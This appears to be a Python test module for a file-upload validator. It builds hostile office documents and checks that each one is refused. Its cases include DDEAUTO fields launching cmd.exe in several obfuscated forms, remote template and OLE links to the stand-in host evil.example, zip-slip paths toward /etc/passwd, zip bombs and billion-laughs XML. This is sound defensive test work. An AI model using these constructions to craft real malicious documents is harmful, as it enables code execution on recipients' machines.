"""Office files that act on their own, unpack without end, or are put together with intent."""

import io
import stat
import zipfile
from collections.abc import Callable, Mapping

from files.enums import Refusal
from tests.factories.documents import (
    docx_bytes,
    odf_bytes,
    part_of,
    pptx_bytes,
    with_members,
    xlsx_bytes,
    zip_bytes,
)

from .case import Case

TYPES = "[Content_Types].xml"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
Members = Mapping[str, bytes | str]


def word(members: Members) -> Callable[[], bytes]:
    return lambda: with_members(docx_bytes(), members)


def excel(members: Members) -> Callable[[], bytes]:
    return lambda: with_members(xlsx_bytes(), members)


def open_document(content: str = "<a/>", extra: Members | None = None) -> Callable[[], bytes]:
    return lambda: odf_bytes(content=content, extra=extra)


def typed(declaration: str, original: Callable[[], bytes] = docx_bytes) -> Callable[[], bytes]:
    """An office file that declares one more content type."""

    def make() -> bytes:
        data = original()
        types = part_of(data, TYPES).replace("</Types>", f"{declaration}</Types>")
        return with_members(data, {TYPES: types})

    return make


def related(kind: str, target: str) -> Callable[[], bytes]:
    """A Word file with one relationship to something outside."""
    relationship = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONSHIPS}{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    )
    return word({"word/_rels/settings.xml.rels": relationship})


def field(*runs: str) -> Callable[[], bytes]:
    """A Word file with a field whose code is cut into runs."""

    def make() -> bytes:
        data = docx_bytes()
        code = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
        begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        text = part_of(data, "word/document.xml")
        text = text.replace("<w:sectPr", f"<w:p>{begin}{code}{end}</w:p><w:sectPr", 1)
        return with_members(data, {"word/document.xml": text})

    return make


def simple_field() -> bytes:
    data = docx_bytes()
    code = "<w:p><w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe \"/k calc\"'/></w:p>"
    text = part_of(data, "word/document.xml").replace("<w:sectPr", f"{code}<w:sectPr", 1)
    return with_members(data, {"word/document.xml": text.encode("utf-16")})


def special(name: str, mode: int = 0o644, data: bytes = b"x") -> Callable[[], bytes]:
    """A Word file with a member of an unusual name or nature."""

    def make() -> bytes:
        target = io.BytesIO(docx_bytes())
        member = zipfile.ZipInfo(name)
        member.filename = name
        member.external_attr = mode << 16
        with zipfile.ZipFile(target, "a") as archive:
            archive.writestr(member, data)
        return target.getvalue()

    return make


def twice(name: str = "word/document.xml") -> bytes:
    """Two members of one name: programs differ in which of them they read."""
    target = io.BytesIO(docx_bytes())
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(name.upper(), "<other/>")
    return target.getvalue()


def bomb(megabytes: int) -> Callable[[], bytes]:
    """A Word file that unpacks to blanks, small on disk."""

    def make() -> bytes:
        target = io.BytesIO(docx_bytes())
        with (
            zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
            archive.open("word/media/blank.bin", "w") as member,
        ):
            for _ in range(megabytes):
                member.write(b" " * 1_000_000)
        return target.getvalue()

    return make


def crowd() -> bytes:
    return with_members(docx_bytes(), {f"word/{n}.xml": "" for n in range(10_001)})


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bad = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">{entities}]><a>&a9;</a>'
    return with_members(docx_bytes(), {"word/document.xml": bad})


def false_size() -> bytes:
    """A member that holds more than the archive says."""
    data = bytearray(zip_bytes({TYPES: part_of(docx_bytes(), TYPES), "a.xml": "<a/>" * 1000}))
    place = data.rindex(b"a.xml") - 46
    data[place + 24 : place + 28] = (40).to_bytes(4, "little")
    return bytes(data)


def locked_member() -> bytes:
    data = bytearray(docx_bytes())
    place = data.index(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def two_archives() -> bytes:
    """One archive behind another: some programs read the first, some the second."""
    return zip_bytes({"run.exe": "MZ"}) + docx_bytes()


def other_main(content_type: str) -> Callable[[], bytes]:
    return lambda: zip_bytes(
        {
            TYPES: f'<Types><Override PartName="/a.xml" ContentType="{content_type}"/></Types>',
            "a.xml": "<a/>",
        }
    )


def packed() -> bytes:
    """A program in an object container, as Office itself packs it."""
    name = "\x01Ole10Native".encode("utf-16-le")
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 300_000 + name + b"MZ"


MS = "application/vnd.ms-"
MACRO_MAIN = MS + "word.document.macroEnabled.main+xml"
XLM = '<Override PartName="/xl/macrosheets/a.xml" ContentType="' + MS + 'excel.macrosheet+xml"/>'
VBA = f'<Default Extension="dat" ContentType="{MS}office.vbaProject"/>'
TEMPLATE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
DDE_LINK = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
REMOTE = Refusal.REMOTE_CONTENT
UNSAFE = Refusal.UNSAFE_ARCHIVE

CASES = [
    Case("macros", "a.docx", word({"word/vbaProject.bin": b"x"}), Refusal.MACROS),
    Case("macros under another name", "a.docx", typed(VBA), Refusal.MACROS),
    Case("macros by type", "a.docm", other_main(MACRO_MAIN), Refusal.MACROS),
    Case("macro sheets", "a.xlsx", typed(XLM, xlsx_bytes), Refusal.MACROS),
    Case("macro sheets by name", "a.xlsx", excel({"xl/macrosheets/s.xml": "<a/>"}), Refusal.MACROS),
    Case("controls", "a.docx", word({"word/activeX/activeX1.xml": "<a/>"}), Refusal.MACROS),
    Case("macros inside a part", "a.docx", word({"word/embeddings/a.docm": b"x"}), Refusal.MACROS),
    Case(
        "a program packed inside",
        "a.docx",
        lambda: with_members(docx_bytes(), {"word/embeddings/oleObject1.bin": packed()}),
        Refusal.EMBEDDED_FILE,
    ),
    Case("a program as a part", "a.pptx", special("ppt/media/run.EXE"), Refusal.EMBEDDED_FILE),
    Case("a template by name", "a.dotx", other_main(TEMPLATE), Refusal.OTHER_OFFICE),
    Case("a drawing of Visio", "a.vsdx", other_main(MS + "visio.main+xml"), Refusal.OTHER_OFFICE),
    Case(
        "an Apple document",
        "a.pages",
        lambda: zip_bytes({"Index/Document.iwa": "x"}),
        Refusal.OTHER_OFFICE,
    ),
    Case(
        "a book",
        "a.epub",
        lambda: zip_bytes({"mimetype": "application/epub+zip"}),
        Refusal.OTHER_OFFICE,
    ),
    Case(
        "a template from elsewhere",
        "a.docx",
        related("attachedTemplate", "http://evil.example/a.dotm"),
        REMOTE,
    ),
    Case(
        "a template from a share", "a.docx", related("attachedTemplate", r"\\evil\a.dotm"), REMOTE
    ),
    Case(
        "a template in disguise",
        "a.docx",
        related("attachedTemplate", "ht%74p://evil.example/"),
        REMOTE,
    ),
    Case(
        "an object from elsewhere",
        "a.docx",
        related("oleObject", "mhtml:http://evil.example!x"),
        REMOTE,
    ),
    Case("a frame from elsewhere", "a.docx", related("frame", "https://evil.example/"), REMOTE),
    Case("a picture from a share", "a.docx", related("image", "file://evil/share/a.png"), REMOTE),
    Case("a field that starts a program", "a.docx", field(r'DDEAUTO c:\cmd.exe "/k calc"'), REMOTE),
    Case("such a field in pieces", "a.docx", field(" D", "DEA", "&#85;TO ", "c:\\cmd.exe"), REMOTE),
    Case("such a field in numbers", "a.docx", field(" QUOTE 68 68 69 65 85 84 79"), REMOTE),
    Case("such a field in two-byte letters", "a.docx", simple_field, REMOTE),
    Case(
        "a sheet that starts a program",
        "a.xlsx",
        excel({"xl/externalLinks/e.xml": DDE_LINK}),
        REMOTE,
    ),
    Case(
        "letters of its own",
        "a.docx",
        word({"word/a.xml": '<?xml version="1.0" encoding="utf-7"?>'}),
        UNSAFE,
    ),
    Case("a link out of the archive", "a.docx", special("word/a", stat.S_IFLNK | 0o777), UNSAFE),
    Case("a way out of the archive", "a.docx", special("../../etc/passwd"), UNSAFE),
    Case("a way out in Windows manner", "a.docx", special("..\\..\\run.bat"), UNSAFE),
    Case("a place of its own", "a.docx", special("/etc/passwd"), UNSAFE),
    Case("a drive of its own", "a.docx", special("C:/run.bat"), UNSAFE),
    Case("one name twice", "a.docx", twice, UNSAFE),
    Case("two archives in one", "a.docx", two_archives, UNSAFE),
    Case("a bomb", "a.docx", bomb(100), Refusal.BOMB),
    Case("a large bomb", "a.docx", bomb(450), Refusal.BOMB),
    Case("a bomb of many parts", "a.docx", crowd, Refusal.BOMB),
    Case("a bomb of entities", "a.docx", laughs, Refusal.BOMB),
    Case("a false size", "a.docx", false_size, Refusal.DAMAGED),
    Case("a locked part", "a.docx", locked_member, Refusal.PASSWORD),
    Case("cut off", "a.docx", lambda: docx_bytes()[:9000], Refusal.DAMAGED),
    Case("slides cut off", "a.pptx", lambda: pptx_bytes()[:9000], Refusal.DAMAGED),
    Case(
        "without its text",
        "a.docx",
        lambda: zip_bytes({TYPES: part_of(docx_bytes(), TYPES)}),
        Refusal.DAMAGED,
    ),
    Case("no XML", "a.docx", word({TYPES: "<Types"}), Refusal.DAMAGED),
    Case(
        "open macros", "a.odt", open_document(extra={"Basic/Standard/M.xml": "x"}), Refusal.MACROS
    ),
    Case(
        "open scripts", "a.odt", open_document(extra={"Scripts/python/a.py": "x"}), Refusal.MACROS
    ),
    Case(
        "macros of an inner object",
        "a.odt",
        open_document(extra={"Object 1/Basic/S/M.xml": "x"}),
        Refusal.MACROS,
    ),
    Case(
        "a macro of the program",
        "a.odt",
        open_document("<script:event-listener xlink:href='vnd.sun.star.script:a$b'/>"),
        Refusal.MACROS,
    ),
    Case(
        "a locked open document",
        "a.odt",
        open_document(extra={"META-INF/manifest.xml": "<manifest:encryption-data/>"}),
        Refusal.PASSWORD,
    ),
    Case(
        "an open document that starts programs",
        "a.odt",
        open_document('<text:dde-connection-decl office:dde-application="cmd"/>'),
        REMOTE,
    ),
    Case(
        "an open frame from elsewhere",
        "a.odt",
        open_document('<draw:floating-frame xlink:href="http://evil.example/"/>'),
        REMOTE,
    ),
    Case(
        "open document of another kind",
        "a.odg",
        lambda: odf_bytes("graphics"),
        Refusal.OTHER_OFFICE,
    ),
    Case(
        "an open document without text",
        "a.odt",
        lambda: zip_bytes({"mimetype": "application/vnd.oasis.opendocument.text"}),
        Refusal.DAMAGED,
    ),
]
